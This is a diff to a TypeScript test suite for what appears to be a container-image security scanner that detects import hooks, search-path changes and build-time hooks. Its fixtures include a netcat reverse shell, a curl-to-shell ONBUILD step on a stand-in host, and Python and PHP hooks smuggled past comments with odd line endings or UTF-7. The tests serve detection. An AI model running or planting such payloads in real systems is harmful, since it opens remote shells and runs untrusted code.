@@ -14,6 +14,7 @@ const SETTINGS: ImageSettings = {
   entryPoint: [],
   command: [],
   healthCheck: [],
+  onBuild: [],
   environment: new Map(),
   labels: new Map(),
   workingFolder: '/',
@@ -39,7 +40,7 @@ function image(
       modified: 0,
       ...(text.startsWith('->')
         ? { target: text.slice(2) }
-        : { sha256: createHash('sha256').update(text).digest('hex'), ...mkFile(path, text) }),
+        : { sha256: createHash('sha256').update(text).digest('hex'), ...mkFile(path, text, undefined, 0o755) }),
     }),
   );
   const one = { ecosystem: 'dpkg', name: 'base', version: '1' } as const;
@@ -64,6 +65,13 @@ describe('import hooks', () => {
   test.each([
     ['import os; os.system("x")\n', true],
     ['/srv/more\n', false],
+    ['\ufeffimport evil\n', true],
+    ...['\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'].map((end): [string, boolean] => [
+      `# x${end}import evil\n`,
+      true,
+    ]),
+    // Older Pythons end lines at the ends of all files only: there it is one line, and all of it runs.
+    [NSPKG.replace('\n', ';\fevil()\n'), true],
     [NSPKG, false],
     [NSPKG.replaceAll("'importlib.util'", "'evil'"), true],
     [`${NSPKG}import evil\n`, true],
@@ -80,9 +88,22 @@ describe('import hooks', () => {
   });
 
   test.each([
+    ['# x\n', false],
+    ['# x\rimport evil\n', true],
+    ['# -*- coding: utf-8 -*-\n# x\n', false],
+    ['# -*- coding: utf-7 -*-\n# +AAo-import evil\n', true],
+    ['#!/usr/bin/python3\n# vim: set fileencoding=utf_7 :\n# +AAo-import evil\n', true],
+  ])('of what Python imports: %j', (text, isOne) => {
+    expect(kinds(EMPTY, image({ 'usr/lib/python3.13/sitecustomize.py': text }))).toEqual(
+      isOne ? expect.arrayContaining(['import-hook customize nothing']) : [],
+    );
+  });
+
+  test.each([
     ['auto_prepend_file =\n', false],
     ['; auto_prepend_file = /x.php\n', false],
     ['auto_prepend_file = none\n', false],
+    ['; x\rauto_prepend_file = /srv/x.php\n', true],
     ['auto_prepend_file = "/srv/x.php"\n', true],
   ])('of PHP: %j', (text, isOne) => {
     expect(kinds(EMPTY, image({ 'etc/php/8.4/cli/php.ini': text })).includes('import-hook php nothing')).toBe(isOne);
@@ -167,6 +188,57 @@ test('a source is code only where something loads it', () => {
   expect(
     kinds(EMPTY, image({ 'srv/x.php': '<?php 1;', 'usr/bin/php8.4': '\x7fELF' }, { owned: ['usr/bin/php8.4'] })),
   ).toEqual(['unowned-code nothing']);
+});
+
+describe('an executable text that names no interpreter', () => {
+  const SHELL = 'nc 192.0.2.1 4444 -e /bin/sh\n';
+  const CODE = ['known-sign reverse-shell nothing', 'unowned-code nothing'];
+  const searched = { settings: { environment: new Map([['PATH', '/usr/bin:/opt/tools']]) } };
+
+  test.each(['usr/local/sbin/python', 'bin/mkdir'])('is a script in a folder of programs: %s', (path) => {
+    expect(kinds(EMPTY, image({ [path]: SHELL }))).toEqual(CODE);
+  });
+
+  test('is a script in a folder of PATH, also by a link', () => {
+    const old = image({}, searched);
+    expect(kinds(old, image({ 'opt/tools/mkdir': SHELL }, searched))).toEqual(CODE);
+    expect(kinds(old, image({ 'opt/tools': '->/srv/x', 'srv/x/mkdir': SHELL }, searched))).toEqual(CODE);
+    expect(kinds(EMPTY, image({ 'usr/bin/mkdir': '->/srv/x', 'srv/x': SHELL }))).toEqual(CODE);
+  });
+
+  test('is nothing elsewhere, and neither is what no shell takes for a text', () => {
+    expect(kinds(EMPTY, image({ 'srv/README': SHELL, 'usr/bin/data': `\0${SHELL}` }))).toEqual([]);
+  });
+});
+
+describe('folders that are searched', () => {
+  const environment = (name: string, value: string) =>
+    image({}, { settings: { environment: new Map([[name, value]]) } });
+  test.each([
+    ['PATH', '/usr/bin:/bin', '/usr/bin:/opt/t:/bin', true],
+    ['PATH', '/usr/bin:/bin', '/usr/bin::/bin', true],
+    ['PATH', '/usr/bin:/bin', '/usr/bin:/bin:', true],
+    ['PATH', '/usr/bin:/bin', '/usr/bin:/bin:/opt/t', false],
+    ['PATH', '/usr/bin::/bin', '/usr/bin::/bin', false],
+    ['PATH', '/usr/bin:/bin', '/bin:/usr/bin', false],
+    ['LD_LIBRARY_PATH', '', ':/opt/t', true],
+    ['LD_LIBRARY_PATH', '/opt/a', '/opt/a:/opt/t', true],
+    ['LD_LIBRARY_PATH', '/opt/a', '/opt/a:', true],
+    ['LD_LIBRARY_PATH', '/opt/a', '', false],
+    ['LD_LIBRARY_PATH', '/opt/a:/opt/b', '/opt/a', false],
+  ])('%s of %j to %j: %s', (name, before, now, isOne) => {
+    expect(kinds(environment(name, before), environment(name, now))).toEqual(
+      isOne ? [`environment-hook ${name} nothing`] : [],
+    );
+  });
+});
+
+test('a sign in what every build upon the image runs', () => {
+  const now = image({}, { settings: { onBuild: ['RUN curl -s https://evil.example/i | sh'] } });
+  expect(seen(EMPTY, now)).toMatchObject([
+    { kind: 'download-to-shell', variant: 'configuration', says: expect.stringContaining('on build: ') },
+  ]);
+  expect(kinds(now, now)).toEqual([]);
 });
 
 test('root instead of another user, and labels that runtimes act on', () => {
